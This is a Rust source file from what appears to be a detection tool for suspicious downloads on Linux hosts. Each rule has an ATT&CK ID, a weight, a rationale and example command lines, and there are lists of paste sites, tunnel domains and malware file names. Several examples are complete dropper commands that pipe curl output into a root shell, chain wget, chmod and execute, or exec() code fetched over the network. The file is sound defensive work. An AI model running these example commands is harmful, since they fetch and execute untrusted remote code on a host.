//! Downloads: what is fetched, from where, and what happens to it.

use super::kinds::Kinds;
use super::seen::{self, Seen};
use super::words::{self, holds_any, parts};
use super::{Finds, Indicator};
use crate::analysis::paths::{Location, is_hidden};

pub(super) const ROWS: &[Indicator] = &[
    Indicator {
        id: "download-piped-to-interpreter",
        finds: Finds::Kind(Kinds::RUNS_INPUT, &[], |seen| seen.runs_input() && seen.fed_by(fetches_unvetted)),
        weight: 85,
        techniques: &["T1059.004", "T1105"],
        reason: "What a server sends is run at once, unseen and never stored: whoever runs the server runs commands here.",
        refuted_by: "The same command in an installation script of yours, at this time, from a host that you trust.",
        example: &[("proc.cmdline", "sh -c curl -fsSL http://198.51.100.7/x | sudo bash -s --")],
        look_alike: &[("proc.cmdline", "sh -c curl -s http://198.51.100.7/x | python3 -m json.tool")],
    },
    Indicator {
        id: "installer-piped-to-shell",
        finds: Finds::Kind(Kinds::RUNS_INPUT, &[], |seen| seen.runs_input() && seen.fed_by(fetches_known_installer)),
        weight: 45,
        techniques: &["T1059.004", "T1105"],
        reason: "A well-known project's installer is run straight from its site: common by hand, and never part of a running workload.",
        refuted_by: "Somebody of your team installed it at this time.",
        example: &[("proc.cmdline", "sh -c curl -sfL https://get.k3s.io | sh -")],
        look_alike: &[("proc.cmdline", "sh -c curl -sfL https://get.k3s.io -o install.sh")],
    },
    Indicator {
        id: "download-run-as-code",
        finds: Finds::Kind(Kinds::NESTED, &[], runs_fetched_text),
        weight: 85,
        techniques: &["T1059", "T1105"],
        reason: "The text that a download gives becomes program text: it runs unseen and is never stored.",
        refuted_by: "The same command in an installation script of yours, from a host that you trust.",
        example: &[("proc.cmdline", "bash -c bash <(wget -qO- http://203.0.113.5/setup)")],
        look_alike: &[("proc.cmdline", "bash -c VERSION=$(curl -s https://dl.example/stable.txt); echo $VERSION")],
    },
    Indicator {
        id: "download-and-execute",
        finds: Finds::Script(super::story::downloaded_and_executed),
        weight: 85,
        techniques: &["T1105", "T1059.004"],
        reason: "A file is fetched and then run in one go: the classic dropper.",
        refuted_by: "An installation script of yours that fetches this file from a host that you trust.",
        example: &[("proc.cmdline", "sh -c cd /tmp; wget http://203.0.113.5/bins/x.sh; chmod 777 x.sh; ./x.sh")],
        look_alike: &[("proc.cmdline", "sh -c wget -q http://repo.example/data.csv; ls -l data.csv")],
    },
    Indicator {
        id: "download-made-executable",
        finds: Finds::Script(super::story::downloaded_and_made_executable),
        weight: 60,
        techniques: &["T1105", "T1222.002"],
        reason: "A file is fetched and made executable: the step before it is run.",
        refuted_by: "An image build or an installation script of yours that fetches this file.",
        example: &[("proc.cmdline", "sh -c curl -o /usr/local/bin/k http://dl.example/k && chmod +x /usr/local/bin/k")],
        look_alike: &[("proc.cmdline", "sh -c curl -o a.txt http://dl.example/a.txt && chmod 644 a.txt")],
    },
    Indicator {
        id: "download-to-hidden-path",
        finds: Finds::Kind(Kinds::DOWNLOADS, &[], |seen| {
            seen.is_download() && seen.output_path().is_some_and(|path| is_hidden(path) && !is_tool_cache(path))
        }),
        weight: 72,
        techniques: &["T1105", "T1564.001"],
        reason: "A download is stored under a hidden name: honest software has no reason to hide it there.",
        refuted_by: "The tool that stores its files there, and its configuration.",
        example: &[("proc.cmdline", "curl -fsSL -o /tmp/.x http://203.0.113.66/i.sh")],
        look_alike: &[("proc.cmdline", "curl -fsSL -o /root/.cache/helm/index.yaml https://charts.example/index.yaml")],
    },
    Indicator {
        id: "download-from-bare-address",
        finds: Finds::Kind(Kinds::DOWNLOADS, &[], |seen| {
            seen.is_download() && seen.urls().any(|url| words::is_public_address(url.host))
        }),
        weight: 55,
        techniques: &["T1105", "T1071.001"],
        reason: "It fetches from a bare public address, as droppers do and package sources do not.",
        refuted_by: "The address belongs to you or to a supplier of yours.",
        example: &[("proc.cmdline", "wget http://203.0.113.5/a")],
        look_alike: &[("proc.cmdline", "wget http://10.2.3.4/a")],
    },
    Indicator {
        id: "download-of-script-or-program",
        finds: Finds::Kind(Kinds::DOWNLOADS, &[], |seen| seen.is_download() && seen.urls().any(is_program_url)),
        weight: 35,
        techniques: &["T1105"],
        reason: "What it fetches is a script or a program, from outside and not from a package source.",
        refuted_by: "The file at that address is yours, or somebody of yours asked for it.",
        example: &[("proc.cmdline", "wget http://files.example/i.sh")],
        look_alike: &[("proc.cmdline", "wget https://files.example/prices.json")],
    },
    Indicator {
        id: "download-to-temporary-as-program",
        finds: Finds::Kind(Kinds::DOWNLOADS, &[], |seen| {
            let temporary = |path: &str| Location::of(path) == Location::Temporary;
            seen.is_download()
                && seen.output_path().is_some_and(temporary)
                && seen
                    .urls()
                    .any(|url| !words::is_internal_host(url.host) && !is_data_file(seen.output_path().unwrap_or("")))
                && !is_data_file(seen.urls().next().map_or("", |url| url.file()))
        }),
        weight: 40,
        techniques: &["T1105"],
        reason: "A file that is no data by its name is fetched from outside into scratch space, where droppers put theirs.",
        refuted_by: "The file itself (`file`, its hash), and the program that asked for it.",
        example: &[("proc.cmdline", "curl -s -o /tmp/healthz http://cdn.example/s")],
        look_alike: &[("proc.cmdline", "curl -sS -o /tmp/rates.json https://api.example/v2/latest")],
    },
    Indicator {
        id: "deceptive-host",
        finds: Finds::Kind(Kinds::DOWNLOADS.or(Kinds::CODE), &[], |seen| {
            let fetches = seen.is_download() || seen.code().is_some();
            fetches && seen.urls().any(|url| words::is_deceptive_host(url.host))
        }),
        weight: 75,
        techniques: &["T1036", "T1105"],
        reason: "The host begins like an internal name and ends in a foreign domain: it is made to be misread.",
        refuted_by: "The domain at the end of the host belongs to you.",
        example: &[("proc.cmdline", "curl -sf http://localhost.healthz.cdn-assets.example/s")],
        look_alike: &[("proc.cmdline", "curl -sf http://localhost:8080/healthz")],
    },
    Indicator {
        id: "obfuscated-address",
        finds: Finds::Kind(Kinds::DOWNLOADS, &[], |seen| {
            seen.is_download()
                && seen.urls().any(|url| !url.scheme.is_empty() && words::is_obfuscated_address(url.host))
        }),
        weight: 72,
        techniques: &["T1027", "T1105"],
        reason: "The address is written as one number or in hexadecimal, which serves only to hide it from filters.",
        refuted_by: "A test of address parsing.",
        example: &[("proc.cmdline", "curl http://0xcb007107/x")],
        look_alike: &[("proc.cmdline", "curl http://203.0.113.7/x")],
    },
    Indicator {
        id: "download-from-drop-site",
        finds: Finds::Kind(Kinds::DOWNLOADS, &[], |seen| {
            seen.is_download() && seen.urls().any(|url| is_drop_site(url.host))
        }),
        weight: 55,
        techniques: &["T1105", "T1102"],
        reason: "It fetches from a site where anyone can put a file unnamed (a paste, a file drop, a throw-away tunnel).",
        refuted_by: "Somebody of your team put the file there.",
        example: &[("proc.cmdline", "wget -q https://pastebin.com/raw/fqzCVCNP")],
        look_alike: &[("proc.cmdline", "wget -q https://deb.debian.org/debian/dists/stable/Release")],
    },
    Indicator {
        id: "botnet-architecture-payload",
        finds: Finds::Kind(Kinds::DOWNLOADS, &[], |seen| {
            seen.is_download() && seen.urls().any(|url| is_architecture_payload(url.file()))
        }),
        weight: 70,
        techniques: &["T1105", "T1496"],
        reason: "The file is named after a processor, as the builds of Mirai-like bots are.",
        refuted_by: "A release page that names its files so, over HTTPS.",
        example: &[("proc.cmdline", "wget http://203.0.113.5/bins/sora.arm7")],
        look_alike: &[("proc.cmdline", "wget https://dl.example/tool-linux-arm64.tar.gz")],
    },
    Indicator {
        id: "tftp-download",
        finds: Finds::Command(&["tftp", "ftpget"], |seen| {
            seen.command.has_option('g', "get") || seen.has_arg(&["get"]) || seen.name == "ftpget"
        }),
        weight: 50,
        techniques: &["T1105"],
        reason: "TFTP and ftpget are what droppers fall back to where curl and wget are missing; servers have no other use for them.",
        refuted_by: "A network boot or firmware update that you run.",
        example: &[("proc.cmdline", "tftp 203.0.113.5 -c get tftp1.sh")],
        look_alike: &[("proc.cmdline", "tftp --version")],
    },
    Indicator {
        id: "self-named-payload",
        finds: Finds::Kind(Kinds::DOWNLOADS, &[], |seen| {
            let named = |path: &str| is_self_named(path.rsplit('/').next().unwrap_or(path));
            seen.is_download() && (seen.urls().any(|url| named(url.path)) || seen.output_path().is_some_and(named))
        }),
        weight: 75,
        techniques: &["T1105"],
        reason: "The file's own name says that it is a bot, an exploit, a backdoor or a miner.",
        refuted_by: "A security exercise that is announced.",
        example: &[("proc.cmdline", "curl -so ./botnet_client.py http://dl.example/botnet_client.py")],
        look_alike: &[("proc.cmdline", "curl -so ./client.py http://dl.example/client.py")],
    },
    Indicator {
        id: "download-by-language-one-liner",
        finds: Finds::Kind(Kinds::CODE, &[], |seen| {
            seen.code().is_some_and(|(_, code)| {
                seen::is_download(seen.command)
                    && holds_any(code, parts!["exec(", "eval(", "os.system", "subprocess", "system(", "chmod"])
            })
        }),
        weight: 80,
        techniques: &["T1059", "T1105"],
        reason: "A one-line program fetches something and runs it.",
        refuted_by: "The program that starts this line and where its text comes from.",
        example: &[(
            "proc.cmdline",
            "python3 -c import urllib.request;exec(urllib.request.urlopen('http://203.0.113.5/a').read())",
        )],
        look_alike: &[(
            "proc.cmdline",
            "python3 -c import urllib.request;urllib.request.urlopen('http://127.0.0.1:8080/health')",
        )],
    },
];

/// Installers that their projects tell people to pipe into a shell.
const INSTALLERS: &[&str] = &[
    "astral.sh",
    "bootstrap.pypa.io",
    "bun.sh",
    "deb.nodesource.com",
    "dl.k8s.io",
    "fluxcd.io",
    "get.docker.com",
    "get.helm.sh",
    "get.k0s.sh",
    "get.k3s.io",
    "get.rke2.io",
    "get.sdkman.io",
    "get.pnpm.io",
    "install.python-poetry.org",
    "linkerd.io",
    "run.linkerd.io",
    "rpm.nodesource.com",
    "s3.amazonaws.com",
    "sh.rustup.rs",
    "sonarcloud.io",
    "starship.rs",
    "tailscale.com",
];

fn is_known_installer(host: &str, scheme: &str) -> bool {
    scheme == "https" && INSTALLERS.contains(&host)
}

fn fetches_unvetted(command: &crate::cmdline::Command) -> bool {
    seen::is_download(command) && !fetches_known_installer(command)
}

fn fetches_known_installer(command: &crate::cmdline::Command) -> bool {
    let mut urls = seen::urls(command).peekable();
    seen::is_download(command) && urls.peek().is_some() && urls.all(|url| is_known_installer(url.host, url.scheme))
}

/// A shell, `eval`, `source` or an interpreter's `-c` whose text a download gives.
fn runs_fetched_text(seen: &Seen<'_, '_>) -> bool {
    seen.runs_text_of(&mut fetches_unvetted)
}

fn is_tool_cache(path: &str) -> bool {
    [
        "/.cache/",
        "/.config/",
        "/.local/",
        "/.npm/",
        "/.m2/",
        "/.gradle/",
        "/.cargo/",
        "/.rustup/",
        "/.nvm/",
        "/.pyenv/",
        "/.vscode-server/",
        "/.docker/",
        "/.helm/",
        "/.git/",
    ]
    .iter()
    .any(|part| path.contains(part))
}

fn is_program_url(url: words::Url<'_>) -> bool {
    let file = url.file();
    let program = [
        ".sh", ".bash", ".elf", ".pl", ".py", ".php", ".jar", ".class", ".ko", ".so", ".x86", ".x86_64", ".bin",
        ".ps1", ".rb", ".jsp",
    ];
    program.iter().any(|end| file.ends_with(end))
        && !words::is_internal_host(url.host)
        && !is_known_installer(url.host, url.scheme)
}

fn is_data_file(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    let data = [
        ".json", ".csv", ".txt", ".xml", ".yaml", ".yml", ".html", ".pdf", ".png", ".jpg", ".zip", ".tar", ".gz",
        ".tgz", ".deb", ".rpm", ".apk", ".crt", ".pem", ".log", ".sql", ".parquet", ".db", ".mmdb", ".xz", ".bz2",
        ".asc", ".gpg", ".key", ".out",
    ];
    data.iter().any(|end| name.ends_with(end))
}

/// Sites where anyone can put a file without a name.
const DROP_SITES: &[&str] = &[
    "0x0.st",
    "anonfiles.com",
    "bashupload.com",
    "catbox.moe",
    "cdn.discordapp.com",
    "controlc.com",
    "dpaste.org",
    "file.io",
    "filebin.net",
    "gofile.io",
    "hastebin.com",
    "ix.io",
    "oshi.at",
    "paste.ee",
    "paste.rs",
    "pastebin.com",
    "rentry.co",
    "send.cm",
    "sprunge.us",
    "temp.sh",
    "termbin.com",
    "tmpfiles.org",
    "transfer.sh",
];

fn is_drop_site(host: &str) -> bool {
    let suffixes = [
        ".duckdns.org",
        ".ngrok.io",
        ".ngrok-free.app",
        ".ngrok.app",
        ".trycloudflare.com",
        ".onion",
        ".serveo.net",
        ".loca.lt",
        ".onion.ws",
        ".tor2web.io",
        ".onion.pet",
        ".hopto.org",
        ".ddns.net",
        ".no-ip.org",
        ".webhook.site",
    ];
    DROP_SITES
        .iter()
        .any(|site| host == *site || (host.ends_with(site) && host[..host.len() - site.len()].ends_with('.')))
        || suffixes.iter().any(|suffix| host.ends_with(suffix))
}

fn is_architecture_payload(file: &str) -> bool {
    const MACHINES: &[&str] = &[
        "arm", "arm4", "arm5", "arm6", "arm7", "armv4l", "armv5l", "armv6l", "armv7l", "i486", "i586", "i686", "m68k",
        "mips", "mipsel", "mpsl", "ppc", "sh4", "spc", "sparc", "x86", "x86_64", "arc",
    ];
    match file.rsplit_once('.') {
        Some((stem, end)) => !stem.is_empty() && MACHINES.contains(&end),
        None => MACHINES.contains(&file) && file != "x86_64",
    }
}

/// Whether a file's name says that it is malicious software.
pub(super) fn is_self_named(name: &str) -> bool {
    let names = parts![
        "backdoor",
        "botnet",
        "c99.php",
        "cryptonight",
        "exploit",
        "keylogger",
        "malware",
        "meterpreter",
        "r57.php",
        "ransom",
        "revshell",
        "rev_shell",
        "reverse_shell",
        "reverseshell",
        "rootkit",
        "shellbot",
        "webshell",
        "xmrig",
        "kinsing",
        "kdevtmpfsi",
        "cryptominer",
        "b374k",
        "weevely",
        "dropper",
        "stealer",
        "0day",
        "pwnkit",
        "dirtycow",
        "dirtypipe",
        "ddos",
    ];
    holds_any(name, names)
}
